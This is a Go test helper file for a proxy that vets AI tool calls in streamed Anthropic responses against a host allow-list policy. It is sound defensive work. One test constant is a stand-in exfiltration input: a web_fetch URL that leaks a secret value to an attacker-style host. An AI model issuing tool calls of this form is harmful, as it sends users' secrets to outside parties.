package anthvet

import (
	"bytes"
	"encoding/json"
	"io"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/tidwall/gjson"

	"github.com/promptgate/promptgate/policy/vet"
	"github.com/promptgate/promptgate/proxy/sse"
)

// Inputs used across the tests.
const (
	fetchGood   = `{"url":"https://docs.example.com/a"}`
	fetchBad    = `{"url":"https://evil.example.net/?leak=SECRET123"}`
	weatherArgs = `{"city":"Oslo"}`
)

// policy is the checker most tests use: web_fetch may only fetch the docs site.
func policy(mode vet.Mode, atomic bool) *vet.Checker {
	rules, err := vet.CompileRules([]vet.Rule{{ID: "docs", Tool: "web_fetch", Path: "url", Hosts: []string{"docs.example.com"}}})
	if err != nil {
		panic(err)
	}
	return vet.NewChecker(vet.Policy{
		Allowed: map[string]bool{"get_weather": true, "web_fetch": true, "search": true},
		Schemas: map[string][]byte{"get_weather": []byte(`{"type":"object","properties":{"city":{"type":"string"}},"required":["city"]}`)},
		Rules:   rules,
		Mode:    mode,
		Atomic:  atomic,
	})
}

func jstr(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(err)
	}
	return string(b)
}

func itoa(i int) string {
	b, _ := json.Marshal(i)
	return string(b)
}

func splitRunes(s string, n int) []string {
	var out []string
	r := []rune(s)
	for len(r) > 0 {
		k := min(n, len(r))
		out = append(out, string(r[:k]))
		r = r[k:]
	}
	return out
}

// as builds a Messages stream the way Anthropic sends it.
type as struct{ evs []string }

// ev adds one event: data is a JSON object without type ("{}" for none).
func (a *as) ev(typ, data string) *as {
	d := `{"type":` + jstr(typ) + `}`
	if data != "{}" {
		d = `{"type":` + jstr(typ) + `,` + strings.TrimPrefix(data, "{")
	}
	a.evs = append(a.evs, "event: "+typ+"\ndata: "+d+"\n\n")
	return a
}

func (a *as) start() *as {
	return a.ev("message_start", `{"message":{"id":"msg_01","type":"message","role":"assistant","content":[],"model":"claude-sonnet-4-5","stop_reason":null,"stop_sequence":null,"usage":{"input_tokens":10,"output_tokens":1}}}`).
		ev("ping", "{}")
}

// text streams a text block at index idx in pieces of n runes.
func (a *as) text(idx int, text string, n int) *as {
	a.ev("content_block_start", `{"index":`+itoa(idx)+`,"content_block":{"type":"text","text":""}}`)
	for _, p := range splitRunes(text, n) {
		a.ev("content_block_delta", `{"index":`+itoa(idx)+`,"delta":{"type":"text_delta","text":`+jstr(p)+`}}`)
	}
	return a.ev("content_block_stop", `{"index":`+itoa(idx)+`}`)
}

// tool streams a tool_use block at index idx, its input in pieces of n runes after an empty first one.
func (a *as) tool(idx int, id, name, input string, n int) *as {
	a.ev("content_block_start", `{"index":`+itoa(idx)+`,"content_block":{"type":"tool_use","id":`+jstr(id)+`,"name":`+jstr(name)+`,"input":{}}}`)
	a.ev("content_block_delta", `{"index":`+itoa(idx)+`,"delta":{"type":"input_json_delta","partial_json":""}}`)
	for _, p := range splitRunes(input, n) {
		a.ev("content_block_delta", `{"index":`+itoa(idx)+`,"delta":{"type":"input_json_delta","partial_json":`+jstr(p)+`}}`)
	}
	return a.ev("content_block_stop", `{"index":`+itoa(idx)+`}`)
}

func (a *as) end(stop string) *as {
	return a.ev("message_delta", `{"delta":{"stop_reason":`+jstr(stop)+`,"stop_sequence":null},"usage":{"output_tokens":42}}`).
		ev("message_stop", "{}")
}

func (a *as) String() string { return strings.Join(a.evs, "") }

// cblock is a content block as a client assembles it.
type cblock struct {
	Type, ID, Name, Text, Input string
}

// view is what a client makes of a stream.
type view struct {
	Blocks []cblock
	Stop   string
	Error  string // error.code of an error event
	Done   bool   // message_stop
	After  int    // events after the error or message_stop
}

// assemble reads a stream as the official SDKs do: a block starts at index len(content), deltas and stops
// address an existing index, input_json_delta replaces an input of "{}" or extends it.
func assemble(t testing.TB, out []byte) view {
	t.Helper()
	var v view
	r := sse.NewReader(bytes.NewReader(out))
	for {
		ev, err := r.Next()
		if err == io.EOF {
			break
		}
		if err != nil || ev.Truncated {
			t.Fatalf("output is not a clean SSE stream: %v %q", err, ev.Raw)
		}
		if !ev.HasData || !gjson.ValidBytes(ev.Data) {
			continue
		}
		if v.Done || v.Error != "" {
			v.After++
		}
		d := gjson.ParseBytes(ev.Data)
		typ := d.Get("type").String()
		if ev.Event != typ {
			t.Fatalf("event line %q for data type %q", ev.Event, typ)
		}
		idx := int(d.Get("index").Int())
		switch typ {
		case "error":
			v.Error = d.Get("error.code").String()
		case "message_start":
			for _, b := range d.Get("message.content").Array() {
				v.Blocks = append(v.Blocks, cblock{Type: b.Get("type").String(), ID: b.Get("id").String(), Name: b.Get("name").String(), Text: b.Get("text").String(), Input: b.Get("input").Raw})
			}
		case "content_block_start":
			if idx != len(v.Blocks) {
				t.Fatalf("block starts at index %d, want %d:\n%s", idx, len(v.Blocks), out)
			}
			b := d.Get("content_block")
			v.Blocks = append(v.Blocks, cblock{Type: b.Get("type").String(), ID: b.Get("id").String(), Name: b.Get("name").String(), Text: b.Get("text").String(), Input: b.Get("input").Raw})
		case "content_block_delta":
			if idx < 0 || idx >= len(v.Blocks) {
				t.Fatalf("delta for block %d of %d", idx, len(v.Blocks))
			}
			b := &v.Blocks[idx]
			switch d.Get("delta.type").String() {
			case "text_delta":
				b.Text += d.Get("delta.text").String()
			case "input_json_delta":
				if pj := d.Get("delta.partial_json").String(); pj != "" {
					if b.Input == "{}" {
						b.Input = pj
					} else {
						b.Input += pj
					}
				}
			}
		case "content_block_stop":
			if idx < 0 || idx >= len(v.Blocks) {
				t.Fatalf("stop for block %d of %d", idx, len(v.Blocks))
			}
		case "message_delta":
			v.Stop = d.Get("delta.stop_reason").String()
		case "message_stop":
			v.Done = true
		}
	}
	return v
}

// tools are the tool_use blocks of a view.
func (v view) tools() []cblock {
	var out []cblock
	for _, b := range v.Blocks {
		if b.Type == "tool_use" {
			out = append(out, b)
		}
	}
	return out
}

// text is the text of every text block, joined.
func (v view) text() string {
	var b strings.Builder
	for _, bl := range v.Blocks {
		if bl.Type == "text" {
			b.WriteString(bl.Text)
		}
	}
	return b.String()
}

// chunkReader returns 1..max bytes per Read.
type chunkReader struct {
	data []byte
	rnd  *rand.Rand
	max  int
}

func (r *chunkReader) Read(p []byte) (int, error) {
	if len(r.data) == 0 {
		return 0, io.EOF
	}
	n := min(1+r.rnd.IntN(r.max), len(p), len(r.data))
	copy(p, r.data[:n])
	r.data = r.data[n:]
	return n, nil
}

// runStream pipes input through a Stream and returns the output, the decisions and the count of blocked
// calls. With split > 0 the upstream returns 1..split bytes per Read.
func runStream(t testing.TB, input string, c *vet.Checker, split int, seed uint64) ([]byte, []vet.Decision, int) {
	t.Helper()
	var up io.Reader = strings.NewReader(input)
	if split > 0 {
		up = &chunkReader{data: []byte(input), rnd: rand.New(rand.NewPCG(seed, 1)), max: split}
	}
	var ds []vet.Decision
	s := NewStream(io.NopCloser(up), c, func(d vet.Decision) { ds = append(ds, d) })
	var out []byte
	buf := make([]byte, 37)
	for {
		n, err := s.Read(buf)
		out = append(out, buf[:n]...)
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	return out, ds, s.Blocked()
}
